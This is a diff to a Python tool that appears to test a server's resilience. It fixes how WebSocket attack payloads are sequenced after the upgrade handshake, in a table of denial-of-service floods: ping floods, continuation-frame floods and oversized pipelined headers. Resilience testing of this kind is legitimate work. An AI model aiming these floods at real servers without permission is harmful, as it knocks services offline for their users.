@@ -31,6 +31,8 @@ _PIECE_BYTES = 262_144
 class Attack:
     """What is sent on each of some connections: `opening` once, `repeated` without pause.
 
+    `upgraded` goes out between them, once the server has answered: of a WebSocket nothing may be sent before.
+
     A connection that the server ends is opened anew, until the time is up.
     """
 
@@ -38,6 +40,7 @@ class Attack:
     opening: bytes
     repeated: bytes = b""
     connections: int = 1
+    upgraded: bytes = b""
 
 
 def _asked(messages: object, **more: object) -> bytes:
@@ -94,13 +97,15 @@ ATTACKS: dict[str, Callable[[], Attack]] = {
     "A3": lambda: Attack("A3 WebSocket: pings without pause", UPGRADE, _frame(0x9) * 20_000),
     "A4": lambda: Attack(
         "A4 WebSocket: empty continuations without pause",
-        UPGRADE + _frame(0x1, b"{", is_last=False),
+        UPGRADE,
         _frame(0x0, is_last=False) * 20_000,
+        upgraded=_frame(0x1, b"{", is_last=False),
     ),
     "A5": lambda: Attack(
         "A5 WebSocket: one-byte continuations without pause",
-        UPGRADE + _frame(0x1, b"{", is_last=False),
+        UPGRADE,
         _frame(0x0, b" ", is_last=False) * 20_000,
+        upgraded=_frame(0x1, b"{", is_last=False),
     ),
     "A6": lambda: Attack("A6 pipelined heads of 90 headers of 8 KB", b"", _head(90), 8),
     "A7": lambda: Attack("A7 pipelined heads of 56 KB", b"", _head(7) * 8, 8),
@@ -201,6 +206,10 @@ def _connect(
     address = urlsplit(stage.url)
     connection = socket.create_connection((address.hostname or "", address.port or 0), timeout=30)
     open_ones.callback(connection.close)
-    connection.setblocking(False)
     first = memoryview(attack.opening or attack.repeated)
+    if attack.upgraded:
+        connection.sendall(first)
+        connection.recv(_PIECE_BYTES)
+        first = memoryview(attack.upgraded + attack.repeated)
+    connection.setblocking(False)
     ready.register(connection, selectors.EVENT_READ | selectors.EVENT_WRITE, first)
